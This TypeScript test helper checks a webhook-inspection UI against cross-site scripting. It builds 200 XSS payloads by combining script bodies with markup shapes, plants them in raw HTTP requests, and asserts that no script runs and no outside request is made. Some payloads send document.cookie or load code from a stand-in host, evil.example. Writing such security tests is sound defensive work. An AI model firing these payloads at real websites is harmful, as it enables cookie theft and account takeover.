import type { Browser, Page } from 'playwright-core';
import { expect } from 'vitest';
import { type TestApp, withApp } from './app.ts';
import { openUi } from './browser.ts';
import { sendRaw } from './raw-client.ts';

const RUNS = [
  'alert(1)',
  'window.pwned=1',
  'top.pwned=1',
  "fetch('//evil.example/'+document.cookie)",
  'parent.pwned=1',
  "import('//evil.example/x.js')",
  'confirm`1`',
  'document.title="pwned"',
  'eval(name)',
  'navigator.sendBeacon("//evil.example")',
];
const SHAPES = [
  '<script>X</script>',
  '"><script>X</script>',
  '<img src=x onerror=X>',
  '"><img src=x onerror="X">',
  '<svg onload=X>',
  '<svg><script>X</script></svg>',
  '<iframe srcdoc="<script>X</script>"></iframe>',
  '<body onload=X>',
  '<a href="javascript:X" autofocus onfocus=X>a</a>',
  'javascript:X//',
  '<details open ontoggle=X>',
  '<video><source onerror="X"></video>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/b)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/><form action=//evil.example><input autofocus onfocus=X>',
  '<math><mtext></mtext><mglyph><svg><mtext><style><a title="</style><img src onerror=X>">',
  "';X;//",
  '{{constructor.constructor("X")()}}',
  '\u202e<script>X</script>\u0000\u200b',
  '<meta http-equiv=refresh content="0;url=javascript:X">',
];

/** Each shape of markup with each script: 200. */
export const SCRIPT_STRINGS: readonly string[] = SHAPES.flatMap((shape) =>
  RUNS.map((run) => shape.replaceAll('X', run)),
);
/** One in five of them, 40: each shape with two scripts, each script in four shapes. */
export const FEW_SCRIPT_STRINGS: readonly string[] = SHAPES.flatMap((shape, at) =>
  [at, at + 3].map((run) => shape.replaceAll('X', RUNS[run % RUNS.length] as string)),
);

const latin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
/** What a request line and a header line may carry: no blanks or controls there. */
const inTarget = (text: string): string => latin1(text).replace(/[\x00-\x20\x7f]/g, '%20');
const inHeader = (text: string): string => latin1(text).replace(/[\x00-\x1f\x7f]/g, ' ');
const asName = (text: string): string => `X-${text.replace(/[^!#$%&'*+.^_`|~0-9A-Za-z-]/g, '') || 'n'}`;

async function plant(app: TestApp, strings: readonly string[]): Promise<void> {
  const path = new URL(app.captureUrl).pathname;
  const ofOneShape = strings.length / SHAPES.length;
  for (const [at, text] of strings.entries()) {
    const body = Buffer.from(at % 2 === 0 ? JSON.stringify({ [text]: text, id: text }) : text);
    const type = at % 2 === 0 ? 'application/json' : at % 4 === 1 ? 'text/html' : 'image/svg+xml';
    const lines = [
      `Host: ${inHeader(text)}`,
      `${asName(text)}: ${inHeader(text)}`,
      `X-Contentful-Topic: ${inHeader(text)}`,
      `X-Contentful-Webhook-Name: ${inHeader(text)}`,
      `Content-Type: ${type}`,
      `Content-Length: ${body.length}`,
    ];
    await sendRaw(
      app.capturePort,
      Buffer.concat([
        Buffer.from(`POST ${path}/${inTarget(text)} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`, 'latin1'),
        body,
      ]),
    );
    if (at % ofOneShape === 0)
      await sendRaw(app.capturePort, Buffer.from(`${inTarget(text)} ${path} HTTP/1.1\r\nHost: x\r\n\r\n`, 'latin1'));
  }
  await app.call('createEndpoint', { body: { name: (strings[0] as string).slice(0, 80) } });
  await app.call('createDestination', {
    body: { name: (strings[2] as string).slice(0, 80), url: 'http://127.0.0.1:9/' },
  });
  await app.call('saveSearch', { body: { name: (strings[4] as string).slice(0, 80), query: strings[6] as string } });
  await app.call('changeDelivery', { params: { id: 1 }, body: { note: strings[8] as string } });
}

/** Walk down the list with the keyboard, the given tab open, until the last delivery is shown. */
async function walk(page: Page, tab: string, count: number): Promise<void> {
  const grid = page.getByRole('grid', { name: /Deliveries/ });
  await page
    .getByRole('article')
    .getByRole('tab', { name: new RegExp(tab) })
    .click();
  await grid.focus();
  for (let at = 0; at < count; at++) await page.keyboard.press('j');
  const oldest = page.getByRole('article', { name: 'Delivery 1', exact: true });
  await expect
    .poll(
      async () => {
        await page.keyboard.press('j');
        return oldest.isVisible();
      },
      { timeout: 60_000 },
    )
    .toBe(true);
}

/** Send `strings` in every field that a sender has, walk through all deliveries with the tabs open, and look for what ran or left. */
export async function expectNothingRuns(browser: Browser, strings: readonly string[]): Promise<void> {
  await withApp(async (app) => {
    await plant(app, strings);
    const { page, context, troubles } = await openUi(browser, app);
    const outside: string[] = [];
    page.on('request', (request) => {
      if (
        !request.url().startsWith(app.origin) &&
        !request.url().startsWith('blob:') &&
        !request.url().startsWith('data:')
      )
        outside.push(request.url());
    });
    const total = (await app.call('status', {})).deliveries;
    expect(total).toBe(strings.length + SHAPES.length);
    await page
      .getByRole('grid', { name: /Deliveries/ })
      .getByRole('row')
      .nth(1)
      .click();
    for (const tab of ['Overview', 'Headers', 'Body']) {
      await walk(page, tab, total);
      await page.keyboard.press('Home');
      await page.getByRole('article', { name: `Delivery ${total}`, exact: true }).waitFor();
    }
    for (const tab of ['Signature', 'Sends', 'Notes'])
      await page
        .getByRole('article')
        .getByRole('tab', { name: new RegExp(tab) })
        .click();
    const marks = await page.evaluate(() => ({
      pwned: 'pwned' in window,
      title: document.title,
      scripts: document.scripts.length,
    }));
    expect(marks).toMatchObject({ pwned: false });
    expect(marks.title).not.toBe('pwned');
    expect(marks.scripts).toBe(1);
    expect(outside).toEqual([]);
    expect(troubles).toEqual([]);
    await context.close();
  });
}
